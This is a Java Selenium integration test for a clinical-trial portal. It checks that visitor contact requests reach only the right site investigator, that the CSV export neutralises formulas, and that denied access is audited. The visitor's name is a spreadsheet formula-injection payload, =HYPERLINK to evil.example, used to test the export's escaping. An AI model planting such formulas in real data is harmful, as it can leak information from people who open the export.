package org.opentrials.portal.it;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpResponse;
import org.junit.jupiter.api.Test;
import org.openqa.selenium.By;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.support.ui.Select;

/**
 * A visitor's contact request reaches the site's investigator, opened for them only: they read it,
 * mark it contacted and export it as CSV where a formula stays text; another site's investigator
 * gets "not found", and the refusal is in the audit trail.
 */
class ContactRequestsIT extends PortalIT {
  private static final String REQUESTS =
      "/admin/sites/requests.xhtml?trial=NCT02633163&site=cedars-sinai";

  @Test
  void theCedarsInvestigatorWorksThroughARequestThatNobodyElseSees() {
    String tag = Long.toString(System.nanoTime() % 1_000_000);
    String name = "=HYPERLINK(\"https://evil.example/?r=" + tag + "\",\"Rita\")";
    String phone = "+1 310-555-" + String.format("%04d", Integer.parseInt(tag) % 10_000);
    String reference = visitorAsksCedarsToCall(name, phone);

    // The Cedars investigator, in a browser: the site's requests, opened.
    signInInBrowser("investigator.cedars");
    open("/admin/sites/index.xhtml");
    browser()
        .findElement(By.cssSelector("tr[data-site='" + CedarsSite.KEY + "'] a.requests-link"))
        .click();
    WebElement row = row(reference);
    assertThat(row.findElement(By.cssSelector(".name")).getText()).isEqualTo(name);
    assertThat(row.findElement(By.cssSelector(".phone")).getText()).isEqualTo(phone);
    assertThat(row.findElement(By.cssSelector(".email")).getText())
        .isEqualTo("rita." + tag + "@example.org");
    assertThat(row.getText())
        .contains("Prefers evenings", "Pre-screen: may qualify", "New", "Asks to be contacted");
    assertThat(row.findElement(By.cssSelector(".consent")).getText())
        .startsWith("Consent text 2026-");

    // Saving without a choice is refused on the field; then marked contacted.
    submitAndWait(
        By.cssSelector("tr[data-reference='" + reference + "'] input[id$=':markButton']"));
    assertThat(row(reference).findElement(By.cssSelector(".field-error")).getText())
        .isEqualTo("Please choose a status.");
    new Select(row(reference).findElement(By.cssSelector("select")))
        .selectByVisibleText("Contacted");
    submitAndWait(
        By.cssSelector("tr[data-reference='" + reference + "'] input[id$=':markButton']"));
    assertThat(browser().findElement(By.cssSelector(".form-info")).getText())
        .isEqualTo("Request " + reference + " is now marked Contacted.");
    assertThat(row(reference).findElement(By.cssSelector(".status")).getText())
        .isEqualTo("Contacted");

    // The CSV of the investigator's own sites: the request, its formula as text, the phone
    // readable.
    StaffSession cedars = CedarsSite.signedIn(server, "investigator.cedars");
    HttpResponse<String> csv = cedars.get("/admin/sites/requests.csv");
    assertThat(csv.statusCode()).isEqualTo(200);
    assertThat(csv.headers().firstValue("Content-Disposition"))
        .hasValueSatisfying(d -> assertThat(d).startsWith("attachment"));
    assertThat(csv.headers().firstValue("Cache-Control")).contains("no-store");
    String line =
        csv.body()
            .lines()
            .filter(l -> l.startsWith("\"" + reference + "\""))
            .findFirst()
            .orElseThrow();
    assertThat(line)
        .contains(
            "\"CONTACTED\"", "\"'+1 310-555-", "\"'=HYPERLINK(\"\"https://evil.example/?r=" + tag)
        .doesNotContain(",\"=HYPERLINK", ",\"+1");

    // The MUSC investigator: not found, not in their export, and the try recorded.
    StaffSession musc = CedarsSite.signedIn(server, "investigator.musc");
    HttpResponse<String> refused = musc.get(REQUESTS);
    assertThat(refused.statusCode()).isEqualTo(404);
    assertThat(refused.body())
        .contains("Page not found")
        .doesNotContain(reference, "evil.example", "AccessDenied");
    assertThat(musc.get("/admin/sites/requests.csv").body()).doesNotContain(reference);
    assertThat(CedarsSite.signedIn(server, "sponsor").get(REQUESTS).statusCode())
        .as("sponsor staff")
        .isEqualTo(404);

    StaffSession admin = CedarsSite.signedIn(server, "admin");
    String denied =
        admin
            .get(
                "/admin/audit/index.xhtml?actor=investigator.musc&action=ACCESS_DENIED&entity="
                    + CedarsSite.KEY)
            .body();
    assertThat(denied).contains("tried to read the site's contact requests");
    String marked =
        admin
            .get(
                "/admin/audit/index.xhtml?actor=investigator.cedars&action=UPDATE&entity="
                    + reference)
            .body();
    assertThat(marked)
        .contains("<td class=\"old\">NEW</td>", "<td class=\"new\">CONTACTED</td>")
        .doesNotContain("evil.example", "555-");
  }

  private String visitorAsksCedarsToCall(String name, String phone) {
    open("/trials/NCT02633163/check");
    Prescreener.walk(browser(), PrescreenIT.eligibleVisitor(), this::submitAndWait);
    new Select(browser().findElement(By.cssSelector("select[id$=':site']")))
        .selectByVisibleText("Cedars-Sinai Medical Center (Los Angeles, CA)");
    browser().findElement(By.cssSelector("input[id$=':name']")).sendKeys(name);
    browser().findElement(By.cssSelector("input[id$=':phone']")).sendKeys(phone);
    String tag = name.replaceAll(".*r=(\\d+).*", "$1");
    browser()
        .findElement(By.cssSelector("input[id$=':email']"))
        .sendKeys("rita." + tag + "@example.org");
    new Select(browser().findElement(By.cssSelector("select[id$=':time']")))
        .selectByValue("EVENING");
    browser().findElement(By.cssSelector("input[id$=':consent']")).click();
    submitAndWait(By.cssSelector("input[id$=':send']"));
    assertThat(browser().findElement(By.cssSelector(".receipt h2")).getText())
        .isEqualTo("Your request has been sent");
    return browser().findElement(By.cssSelector(".receipt .reference")).getText();
  }

  private void signInInBrowser(String username) {
    open("/admin/login.xhtml");
    browser().findElement(By.cssSelector("input[id$=':username']")).sendKeys(username);
    browser()
        .findElement(By.cssSelector("input[id$=':password']"))
        .sendKeys(server.demoPassword(username));
    submitAndWait(By.cssSelector("input[id$=':submit']"));
  }

  private WebElement row(String reference) {
    return browser().findElement(By.cssSelector("tr[data-reference='" + reference + "']"));
  }
}
